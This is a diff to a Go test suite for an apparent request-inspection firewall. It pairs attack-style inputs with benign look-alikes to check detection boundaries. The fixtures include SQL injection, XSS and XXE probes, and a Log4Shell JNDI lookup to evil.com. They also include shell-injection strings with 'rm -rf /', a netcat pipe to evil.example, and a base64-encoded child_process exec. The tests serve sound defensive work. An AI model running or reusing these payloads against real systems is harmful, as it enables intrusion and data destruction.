@@ -52,9 +52,9 @@ func TestProtocolFamilyBoundaries(t *testing.T) {
 	runBoundaries(t, []boundary{
 		{"method-not-allowed", withMethod("PROPFIND", get("/files")), withMethod("OPTIONS", get("/files"))},
 		{"method-not-allowed", withMethod("|GET", get("/")), withMethod("PATCH", get("/items/1"))},
-		{"protocol-body-content-type", noCT("PUT", "/resource/1", `{"name":"x"}`), post("/resource/1", jsonCT, `{"name":"x"}`)},
-		{"protocol-body-content-type", post("/", "application/x-amf", "x"), post("/", "application/vnd.api+json", `{"data":{}}`)},
-		{"protocol-body-content-type", post("/", formCT+"; charset=utf-8; charset=utf-7", "a=b"), post("/", formCT+"; charset=utf-8", "a=b")},
+		{"protocol-body-without-content-type", noCT("PUT", "/resource/1", `{"name":"x"}`), post("/resource/1", jsonCT, `{"name":"x"}`)},
+		{"protocol-content-type-policy", post("/", "application/x-amf", "x"), post("/", "application/vnd.api+json", `{"data":{}}`)},
+		{"protocol-content-type-policy", post("/", formCT+"; charset=utf-8; charset=utf-7", "a=b"), post("/", formCT+"; charset=utf-8", "a=b")},
 		{"protocol-header-shape", get("/", "Accept", "text/html;q=0.9;charset=CP1026"), get("/", "Accept", "text/html;charset=utf-8, */*;q=0.8")},
 		{"protocol-policy", get("/up", "Request-Range", "bytes=0-512"), get("/up", "Range", "bytes=0-512")},
 	})
@@ -99,5 +99,83 @@ func TestNodeSSRFRFITraversalBoundaries(t *testing.T) {
 		{"lfi-agent-config", get("/.cursor/mcp.json"), get("/api/v1/cursor/next")},
 		{"lfi-agent-config", get("/wp-content/debug.log"), get("/api/v1/debug/logs")},
 		{"traversal-single", get("/g?a=..;.%5C.;%5C."), get("/g?a=wait...;ok")},
+	})
+}
+
+func TestSQLiEvasionBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		{"sqli-select-probe", get("/g?var=select+pg_sleep"), get("/g?q=please+select+a+sleep+mode")},
+		{"sqli-glued-union", get("/g?t=Xunionselectfrom"), get("/g?t=reunion+selection")},
+		{"sqli-numeric-evasion", get("/g?foo=1.e(ascii)"), get("/g?foo=v1.example")},
+		{"sqli-numeric-evasion", get("/g?var=if(1234%3D"), get("/g?var=if+(you+can)")},
+		{"sqli-postgres-cast-json", get("/g?id=password::int"), get("/g?t=12:30::00")},
+		{"sqli-libinjection", get("/g?id=1%E2%80%99+OR+%E2%80%991%E2%80%99%3D%E2%80%99x%E2%80%99%23"), get("/g?q=it%E2%80%99s+John%E2%80%99s+car")},
+	})
+}
+
+func TestXSSFamilyBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		{"xss-obfuscated-tag", get("/g?foo=bar%3Cf%20o%20r%20m"), get("/g?foo=a+%3C+b+or+m")},
+		{"xss-obfuscated-tag", get("/g", "Cookie", "%3Cv%3Avmlframe%20src%3D%22foo.com%2Fsup.fml%22%2F%3E=1"), get("/g?t=x%3Cv+1")},
+		{"xss-css-active", get("/g", "Cookie", "s=<STYLE>BODY{-moz-binding:url(\"http://x/x.xml#xss\")}"), get("/g?t=binding+agreement")},
+		{"xss-css-active", get("/g?test=%20data%3A%20%2C%20%3Cx%3E"), get("/g?test=metadata%3A+none")},
+		{"xxe-external-entity", get("/g", "User-Agent", "foo!ENTITY % bar SYSTEM"), get("/g", "User-Agent", "entity system bar")},
+	})
+}
+
+func TestMarkdownProseLowersShellConfidence(t *testing.T) {
+	d := newDetector(t, Config{})
+	prose := post("/issues", jsonCT, `{"title":"`+"`rm -rf`"+` in the cleanup script deletes too much"}`)
+	for _, f := range d.Inspect(prose, "svc") {
+		if (f.Class == "rce" || f.Class == "cmdi") && f.Confidence >= 85 {
+			t.Errorf("markdown prose blocked: %+v", f)
+		}
+	}
+	// The same command chained, or substituted without prose around it, still blocks.
+	for _, body := range []string{`{"title":"x; ` + "`rm -rf /`" + `"}`, `{"title":"run ` + "`id`" + ` now | nc evil.example 4444 please"}`} {
+		blocked := false
+		for _, f := range d.Inspect(post("/issues", jsonCT, body), "svc") {
+			blocked = blocked || (f.Class == "rce" || f.Class == "cmdi") && f.Confidence >= 85
+		}
+		if !blocked {
+			t.Errorf("not blocked: %s", body)
+		}
+	}
+}
+
+func TestPHPLog4jProtoBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		{"php-interpolation-call", get("/g?foo=%24%7B%27ff%27%7D"), get("/g?greeting=Hello+%24%7Bfirst_name%7D")},
+		{"php-interpolation-call", get("/g?x=$y+=+%27sys%27.%27tem%27%3b%28$y%29%28%27uname%27%29%3B"), get("/g?x=see+(figure+2)+(left)")},
+		{"php-rare-function", get("/g?t=tidy_parse_string%28%29"), get("/g?t=tidy+up+the+string")},
+		{"php-data-wrapper", get("/g?ssrf=data:text/plain;base64,SSBsb3ZlIFBIUAo="), post("/a", jsonCT, `{"avatar":"data:image/png;base64,iVBORw0KGgo="}`)},
+		{"log4shell-entity-brace", post("/p", jsonCT, `{"foo":"$&LBRACE;jndi:ldap://evil.com/x}"}`), post("/p", jsonCT, `{"foo":"price in $&amp; brace"}`)},
+		{"proto-pollution-key", get("/g?a[constructor][prototype]=image"), get("/g?a[constructor]=builder")},
+		{"protocol-header-shape", get("/g", "Cookie", `$Version=1; session="deadbeef; PHPSESSID=secret"`), get("/g", "Cookie", "version=1; session=deadbeef")},
+	})
+}
+
+func TestRCEBuiltinBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		{"rce-shell-builtin", get("/g?rce=alias+eennvv%3Denv%26eennvv+whoami"), get("/g?q=his+alias+is+Bob")},
+		{"rce-shell-builtin", get("/g?code=time+ifconfig"), get("/g?code=time+flies+like+an+arrow")},
+		{"rce-shell-builtin", get("/g?arg=%3Btrap+%27rm+-rf+file.txt%27+SIGEXIT"), get("/g?q=a+trap+for+mice")},
+		{"rce-shell-builtin", get("/g?code=ansible-playbook+site.yml"), get("/g?q=ansible+playbook+question")},
+		{"rce-windows-for-if", get("/g?foo=for+%25%25variable+in+(set)+do+command"), get("/g?foo=for+all+variables+in+(the+set)+do+this")},
+		{"rce-windows-for-if", get("/g?foo=if+not+(2+equ+2)+echo+hey"), get("/g?foo=if+not+(now)+then+later")},
+	})
+}
+
+func TestRubyPerlBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		{"rce-ruby-perl-exec", get("/g?x=Process.spawn(%22id%22)"), get("/g?x=the+process+spawns+workers")},
+		{"rce-ruby-perl-exec", get("/g?x=%40%7B%5B%20system%20qq%7Bwhoami%7D%20%5D%7D"), get("/g?x=%40%7Bname%7D")},
+	})
+}
+
+func TestNodeBase64Boundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		{"nodejs-dos-loop", get("/g", "Cookie", "test_cookie=cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoJ3dob2FtaScpCg=="), get("/g", "Cookie", "test_cookie=eyJ1c2VyIjoiYm9iIn0=")},
+		{"nodejs-js-sink", get("/g?foo=function%28%29+%7B"), post("/c", jsonCT, `{"code":"the function() call returns { ok }"}`)},
 	})
 }
